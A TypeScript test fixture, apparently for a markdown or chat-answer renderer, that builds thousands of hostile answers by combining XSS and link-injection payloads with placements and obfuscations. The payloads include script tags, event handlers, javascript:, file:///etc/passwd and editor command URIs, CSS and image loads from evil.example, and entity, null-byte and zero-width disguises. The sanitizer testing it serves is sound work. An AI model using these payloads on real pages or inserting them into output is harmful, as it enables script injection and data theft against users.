/** Thousands of hostile answers that try to run, load or open something. */

/** A global that shows that a script ran. */
export const run = 'window.__ran=1';

const attacks: readonly string[] = [
  `<script>${run}</script>`,
  `<script src=https://evil.example/a.js></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=https://evil.example/p.png>`,
  `<svg onload=${run}>`,
  `<svg><use href="https://evil.example/u.svg#x"/></svg>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<body onpageshow=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<a href="javascript:${run}" id=x>x</a>`,
  `<style>*{background:url(https://evil.example/c)}</style>`,
  `<meta http-equiv=refresh content=0;url=https://evil.example/>`,
  `<base href=https://evil.example/>`,
  `<form action=https://evil.example/><button>x</button></form>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `[x](javascript:${run})`,
  `[x](<javascript:${run}>)`,
  `[x](vbscript:x)`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  `[x](file:///etc/passwd)`,
  `[x](command:workbench.action.terminal.new)`,
  `[x](vscode:extension/evil.evil)`,
  `[x](blob:https://evil.example/1)`,
  `[x](https://evil.example/ "a\\" onmouseover=\\"${run}")`,
  `[x](https://good.example@evil.example/)`,
  `![x](https://evil.example/i.png)`,
  `![x](javascript:${run})`,
  `![x](data:image/svg+xml,<svg/onload=${run}>)`,
  `[x][r]\n\n[r]: javascript:${run}`,
  `![x][r]\n\n[r]: https://evil.example/r.png`,
  `<javascript:${run}>`,
  `<https://evil.example/" onmouseover="${run}>`,
  `https://evil.example/"onmouseover=${run}`,
  `"><img src=x onerror=${run}>`,
  `' onclick='${run}`,
  '${' + run + '}{{' + run + '}}',
  `\\(\\href{javascript:${run}}{x}\\)`,
  `\\(\\href{https://evil.example/}{x} \\url{https://evil.example/u}\\)`,
  `$$\\includegraphics{https://evil.example/g.png}$$`,
  `\\(\\class{ds-send}{x} \\id{y}{x} \\style{background:url(https://evil.example/s)}{x}\\)`,
  `\\(\\htmlData{onclick=${run}}{x} \\htmlClass{a}{x}\\)`,
  `\\(\\color{red;background:url(https://evil.example/c)}{x}\\)`,
  `\\(\\text{<img src=x onerror=${run}>} \\rule{9999em}{9999em}\\)`,
  `\\(\\def\\a{\\a\\a}\\a\\)`,
  `x[^"onclick=${run}]\n\n[^"onclick=${run}]: <img src=x onerror=${run}>`,
];

const lines = (text: string, before: string): string => text.replaceAll('\n', `\n${before}`);

/** Where in an answer an attack may stand. */
const places: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `words ${attack} words`,
  (attack) => `# ${attack}`,
  (attack) => `> ${lines(attack, '> ')}`,
  (attack) => `- ${lines(attack, '  ')}`,
  (attack) => `1. ${lines(attack, '   ')}`,
  (attack) => `- [ ] ${lines(attack, '  ')}`,
  (attack) => `| a | b |\n|---|---|\n| ${attack.replaceAll('\n', ' ')} | x |`,
  (attack) => `**${attack}** ~~${attack}~~`,
  (attack) => `\`${attack}\``,
  (attack) => `\`\`\`html\n${attack}\n\`\`\``,
  (attack) => `\`\`\`${attack.replaceAll(/[`\n]/g, '')}\ncode\n\`\`\``,
  (attack) => `    ${lines(attack, '    ')}`,
  (attack) => `[${attack}](https://good.example/)`,
  (attack) => `![${attack}](https://evil.example/alt.png)`,
  (attack) => `see[^1]\n\n[^1]: ${lines(attack, '    ')}`,
  (attack) => `see[^x]${attack}\n\n[^x]: note`,
  (attack) => `a \\(${attack}\\) b`,
  (attack) => `$$\n\\text{${attack}} + 1\n$$`,
  (attack) => `\`\`\`js\nconst a = "${attack}";\n\`\`\``,
];

const entity = (text: string, regExp: RegExp): string =>
  text.replace(regExp, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`);

/** How an attack may be disguised. */
const disguises: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => attack.toUpperCase().replaceAll('WINDOW.__RAN', 'window.__ran'),
  (attack) => entity(attack, /[jvdfc](?=avascript|bscript|ata|ile|ommand)/g),
  (attack) => attack.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (attack) => attack.replaceAll('script', 'scr\u0000ipt').replaceAll('on', 'o\u200dn'),
  (attack) => attack.replaceAll(':', '&colon;').replaceAll('(javascript', '(java&Tab;script'),
  (attack) => attack.replaceAll('<', '\\<').replaceAll('](', ']\\('),
];

/** Every attack in every place and disguise, each once. */
export function hostileAnswers(): readonly string[] {
  const all = attacks.flatMap((attack) =>
    disguises.flatMap((disguise) => places.map((place) => place(disguise(attack)))),
  );
  return [...new Set(all)];
}
